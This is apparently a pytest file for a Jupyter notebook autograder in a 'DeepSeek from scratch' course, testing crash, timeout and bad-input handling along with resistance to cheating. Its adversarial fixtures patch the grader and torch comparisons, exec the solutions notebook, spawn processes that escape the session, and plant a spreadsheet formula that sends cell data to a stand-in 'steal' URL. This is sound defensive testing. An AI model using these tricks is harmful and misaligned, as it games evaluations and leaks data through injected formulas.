"""python -m exercises grade: a notebook that crashes, hangs, loops in a check, kills its kernel or is not a
notebook at all is still graded (the others too), each failure says why; bad input is one line, exit 2, before
any kernel starts, and loses nothing."""

from __future__ import annotations

import csv
import time

import nbformat
import pytest

from exercises.grade import main

MASK = "def my_causal_mask(T, S):\n    return torch.ones(T, S, dtype=torch.bool).tril(diagonal=S - T)"


def write_notebook(path, *sources, chapter=1):
    """A small chapter-`chapter` notebook whose code cells are `sources`, never run (no outputs)."""
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(s) for s in sources])
    nb.metadata["deepseek_from_scratch"] = {"chapter": chapter}
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def read_rows(path):
    """The grade CSV by (student, exercise), with the summary (next to it) as (student, 'total')."""
    with open(path, newline="", encoding="utf-8") as handle:
        rows = {(r["student"], r["exercise"]): r for r in csv.DictReader(handle)}
    with open(path.with_name(path.stem + "_summary.csv"), newline="", encoding="utf-8") as handle:
        rows.update({(r["student"], "total"): r for r in csv.DictReader(handle)})
    return rows


def test_crash_hang_endless_check_and_dead_kernel_are_all_graded(tmp_path, capsys):
    subs = tmp_path / "submissions"
    # crash: a cell raises, later cells still run; the 1.3 answer never returns (its check is cut off)
    write_notebook(subs / "crash" / "01_attention_and_kv_cache.ipynb", "import torch", MASK,
                   'raise RuntimeError("boom")',
                   "def gqa_decode_step(q, k_cache, v_cache):\n    while True:\n        pass",
                   'answer_1_4 = "GQA lets groups of query heads share keys and values."')
    # hang: a cell sleeps past the notebook's time limit; what came before it is graded
    write_notebook(subs / "hang" / "01_attention_and_kv_cache.ipynb", "import torch", MASK,
                   "import time\ntime.sleep(600)", "def gqa_decode_step(q, k, v):\n    return q")
    # dead: the kernel exits
    write_notebook(subs / "dead" / "01_attention_and_kv_cache.ipynb", "import torch", MASK, "import os\nos._exit(1)")
    # not a notebook: a row for every exercise all the same
    (subs / "junk").mkdir()
    (subs / "junk" / "01_attention_and_kv_cache.ipynb").write_text("{ not json")
    out = tmp_path / "grades.csv"

    start = time.monotonic()
    assert main([str(subs), "--csv", str(out), "--timeout", "20", "--check-timeout", "8", "--jobs", "3"]) == 0
    elapsed = time.monotonic() - start
    rows = read_rows(out)
    printed = capsys.readouterr().out

    assert rows["crash", "1.1"]["status"] == "PASS" and rows["crash", "1.1"]["points"] == "2"
    assert rows["crash", "1.2"]["status"] == "FAIL"
    assert "linear_attention_step is not defined" in rows["crash", "1.2"]["hint"]
    assert rows["crash", "1.3"]["status"] == "FAIL" and "did not finish within 8 s" in rows["crash", "1.3"]["hint"]
    assert rows["crash", "1.4"]["status"] == "PASS"                          # graded after the interrupted check
    assert rows["crash", "1.4"]["for_teacher"] and rows["crash", "total"]["written_to_score"] == "1.4 (2 points)"
    assert rows["crash", "1.4"]["answer"].startswith("GQA lets groups")
    assert "RuntimeError: boom" in rows["crash", "total"]["notes"]
    assert rows["crash", "total"]["points"] == "2" and rows["crash", "total"]["max_points"] == "10"

    assert rows["hang", "1.1"]["status"] == "PASS"
    assert "still running after 20 s" in rows["hang", "total"]["notes"]
    assert rows["hang", "1.3"]["status"] == "FAIL" and "gqa_decode_step is not defined" in rows["hang", "1.3"]["hint"]

    assert all(rows["dead", e]["status"] == "ERROR" and "kernel died" in rows["dead", e]["hint"]
               for e in ("1.1", "1.2", "1.3", "1.4"))
    assert all(rows["junk", e]["status"] == "ERROR" and "not a readable notebook" in rows["junk", e]["hint"]
               for e in ("1.1", "1.4"))
    assert rows["junk", "total"]["errors"] == "4"
    assert rows["junk", "total"]["points"] == "0"

    assert elapsed < 120, f"the grader took {elapsed:.0f} s"                 # the hang was cut at 20 s
    for student in ("crash", "hang", "dead", "junk"):                         # the printed summary has every student
        assert any(line.startswith(f"{student:<16} ") and "ch1 " in line for line in printed.splitlines())
    with open(out, newline="", encoding="utf-8") as handle:                    # the status column's vocabulary
        assert {r["status"] for r in csv.DictReader(handle)} <= {"PASS", "FAIL", "NOT ATTEMPTED", "ERROR"}


def test_console_shows_hints_in_full_and_says_where_answers_are(tmp_path, capsys):
    long_answer = 'answer_1_4 = "' + "GQA shares keys and values between groups of query heads. " * 4 + '"'
    write_notebook(tmp_path / "subs" / "eve" / "01_attention_and_kv_cache.ipynb", "import torch",
                   "def my_causal_mask(T, S):\n    return torch.zeros(T, S, dtype=torch.bool)", long_answer)
    out = tmp_path / "g.csv"
    assert main([str(tmp_path / "subs"), "--csv", str(out), "--summary", str(tmp_path / "s.csv")]) == 0
    printed = capsys.readouterr().out
    with open(out, newline="", encoding="utf-8") as handle:
        rows = {r["exercise"]: r for r in csv.DictReader(handle)}
    hint = rows["1.1"]["hint"]
    assert rows["1.1"]["status"] == "FAIL" and len(hint) > 70
    assert " ".join(hint.split()) in " ".join(printed.split())                # the whole hint, wrapped
    assert f"column 'answer' of {out}" in " ".join(printed.split())           # where the whole answer is
    with open(tmp_path / "s.csv", newline="", encoding="utf-8") as handle:
        summary = list(csv.DictReader(handle))
    assert len(summary) == 1 and summary[0]["student"] == "eve" and summary[0]["ch01_max"] == "10"


def test_students_are_named_by_file_with_student_file(tmp_path):
    subs = tmp_path / "flat"
    write_notebook(subs / "ann.ipynb", "import torch", MASK)
    write_notebook(subs / "ben.ipynb", "import torch")
    assert main([str(subs), "--student", "file", "--csv", str(tmp_path / "g.csv"), "--jobs", "2"]) == 0
    rows = read_rows(tmp_path / "g.csv")
    assert {student for student, _ in rows} == {"ann", "ben"}
    assert rows["ann", "1.1"]["status"] == "PASS"
    assert rows["ben", "1.1"]["status"] == "FAIL" and "is not defined" in rows["ben", "1.1"]["hint"]


@pytest.mark.parametrize("case", ["missing path", "not a notebook", "empty folder", "csv in a missing folder",
                                  "csv is a folder", "csv exists", "same chapter twice", "bad timeout", "nan timeout",
                                  "bad jobs"])
def test_bad_input_is_one_line_before_any_work(case, tmp_path, capsys):
    subs = tmp_path / "subs"
    write_notebook(subs / "amy" / "01_attention_and_kv_cache.ipynb", "import torch")
    existing = tmp_path / "grades.csv"
    existing.write_text("earlier grades\n")
    args = {
        "missing path": [str(tmp_path / "nowhere")],
        "not a notebook": [str(existing)],
        "empty folder": [str(tmp_path / "empty")],
        "csv in a missing folder": [str(subs), "--csv", str(tmp_path / "no" / "such" / "grades.csv")],
        "csv is a folder": [str(subs), "--csv", str(subs)],
        "csv exists": [str(subs), "--csv", str(existing)],
        "same chapter twice": [str(subs), str(write_notebook(subs / "amy" / "copy_01_x.ipynb", "import torch"))],
        "bad timeout": [str(subs), "--timeout", "0"],
        "nan timeout": [str(subs), "--check-timeout", "nan"],
        "bad jobs": [str(subs), "--jobs", "0"],
    }[case]
    (tmp_path / "empty").mkdir()
    start = time.monotonic()
    with pytest.raises(SystemExit) as exit_info:
        main(args)
    err = capsys.readouterr()
    assert exit_info.value.code == 2
    lines = err.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("python -m exercises grade: error: "), err.err
    assert err.out == "" and "graded" not in err.err                          # no notebook was run
    assert time.monotonic() - start < 5
    assert existing.read_text() == "earlier grades\n"                          # nothing lost
    expected = {"missing path": "no such file or folder", "not a notebook": "not a notebook (.ipynb)",
                "empty folder": "no .ipynb file", "csv in a missing folder": "does not exist",
                "csv is a folder": "that is a folder", "csv exists": "pass --overwrite",
                "same chapter twice": "two chapter-1 notebooks",
                "bad timeout": "must be a finite number of seconds > 0",
                "nan timeout": "--check-timeout nan: must be a finite",
                "bad jobs": "must be at least 1"}[case]
    assert expected in lines[0]


PATCHER = [
    "import torch\nimport exercises\nfrom exercises import Result",
    # replace the checker and torch's comparisons in the kernel: neither is the grader's any more
    "exercises.run_check = lambda ex, answer, *a, **k: Result(ex.id, 'PASS', ex.points, ex.points)\n"
    "torch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True",
    "def my_causal_mask(T, S):\n    return torch.zeros(T, S, dtype=torch.bool)",
    # a tensor that says it equals anything: reaches the grader as a plain tensor
    "class Always(torch.Tensor):\n"
    "    @classmethod\n"
    "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
    "        if func in (torch.allclose, torch.equal): return True\n"
    "        return super().__torch_function__(func, types, args, kwargs or {})\n"
    "def gqa_decode_step(q, k_cache, v_cache):\n"
    "    return torch.zeros(q.shape[0], q.shape[1], v_cache.shape[-1]).as_subclass(Always)",
    "for eid in ('1.1', '1.2', '1.3'):\n    exercises.check_exercise(eid, lambda *a: None)",
]
COPIER = [
    # exec the solutions notebook from wherever a kernel would find it next to the library it imports
    "import json\nfrom pathlib import Path\nimport exercises\n"
    "places = [Path(exercises.__file__).resolve().parents[1] / 'notebooks' / 'solutions', Path.cwd() / 'solutions']\n"
    "found = [p for folder in places for p in sorted(folder.glob('01_*.ipynb'))]\n"
    "for nb in found:\n"
    "    for cell in json.loads(nb.read_text())['cells']:\n"
    "        if cell['cell_type'] == 'code' and 'check_exercise' not in ''.join(cell['source']):\n"
    "            try:\n                exec(''.join(cell['source']))\n"
    "            except Exception:\n                pass\n"
    "print('solutions found:', found)",
]


def spawner(pid_file):
    """Starts a sleep in its own session (out of the kernel's process group) and one in the group, and writes an
    answer that is a spreadsheet formula."""
    return ["import subprocess",
            f"a = subprocess.Popen(['sleep', '300'], start_new_session=True)\n"
            f"b = subprocess.Popen(['sleep', '301'])\nopen({str(pid_file)!r}, 'w').write(f'{{a.pid}} {{b.pid}}')",
            'answer_1_4 = \'=HYPERLINK("http://example.com/steal?"&A1, "click")\'']


def alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/status") as handle:
            return "\nState:\tZ" not in handle.read()          # a zombie has ended (only not yet reaped)
    except FileNotFoundError:
        return False


def test_verdicts_are_the_graders_a_submission_cannot_change_them(tmp_path):
    """A notebook that patches run_check, the grader's hook and torch in its kernel gets no points; one that execs
    the solutions notebook finds none (its kernel runs in a scratch copy without them); processes a notebook
    starts, also in a new session, do not outlive the grading; a written answer reaches the CSV as text."""
    subs = tmp_path / "subs"
    pid_file = tmp_path / "pids"
    write_notebook(subs / "patcher" / "01_attention_and_kv_cache.ipynb", *PATCHER)
    write_notebook(subs / "copier" / "01_attention_and_kv_cache.ipynb", *COPIER)
    write_notebook(subs / "=cmd" / "01_attention_and_kv_cache.ipynb", *spawner(pid_file))
    out = tmp_path / "grades.csv"
    assert main([str(subs), "--csv", str(out), "--timeout", "60", "--check-timeout", "20", "--jobs", "2"]) == 0
    rows = read_rows(out)
    for eid in ("1.1", "1.2", "1.3"):
        assert rows["patcher", eid]["status"] == "FAIL" and rows["patcher", eid]["points"] == "0", rows["patcher", eid]
    assert rows["patcher", "total"]["points"] == "0"
    assert "raised" not in rows["patcher", "total"]["notes"]                  # its cells all ran: the patches were in
    assert rows["copier", "total"]["points"] == "0"
    assert all(rows["copier", e]["status"] == "FAIL" for e in ("1.1", "1.2", "1.3"))
    assert "raised" not in rows["copier", "total"]["notes"]

    # the student folder "=cmd" and the formula answer are text in every spreadsheet
    assert ("'=cmd", "1.4") in rows and rows["'=cmd", "1.4"]["answer"].startswith("'=HYPERLINK(")
    pids = [int(p) for p in pid_file.read_text().split()]
    assert len(pids) == 2
    deadline = time.monotonic() + 10
    while any(alive(p) for p in pids) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(alive(p) for p in pids), "a process the notebook started outlived the grading"


def test_the_exchange_loads_data_only_and_refuses_links_and_oversized_replies(tmp_path, monkeypatch):
    from exercises import exchange

    class Sneaky(str):
        def __eq__(self, other):
            return True

    reply = tmp_path / "reply.pt"
    exchange.write({"returned": exchange.portable((Sneaky("x"), [1, 2.5, True], {"k": None}))}, reply)
    value = exchange.read(reply)["returned"]
    assert type(value[0]) is str and value[0] != "y" and value[1:] == ([1, 2.5, True], {"k": None})
    link = tmp_path / "link.pt"
    link.symlink_to(reply)
    with pytest.raises(OSError):
        exchange.read(link)
    monkeypatch.setattr(exchange, "MAX_REPLY_BYTES", 10)
    with pytest.raises(ValueError, match="over"):
        exchange.read(reply)
    assert exchange.read(tmp_path / "none.pt") is None
    err = exchange.rebuild_exception(exchange.describe_exception(SystemExit("stop the grader")))
    assert isinstance(err, Exception)                                         # a student cannot end the grader
    err = exchange.rebuild_exception(exchange.describe_exception(type("MyError", (ValueError,), {})("no")))
    assert isinstance(err, ValueError) and type(err).__name__ == "MyError" and str(err) == "no"
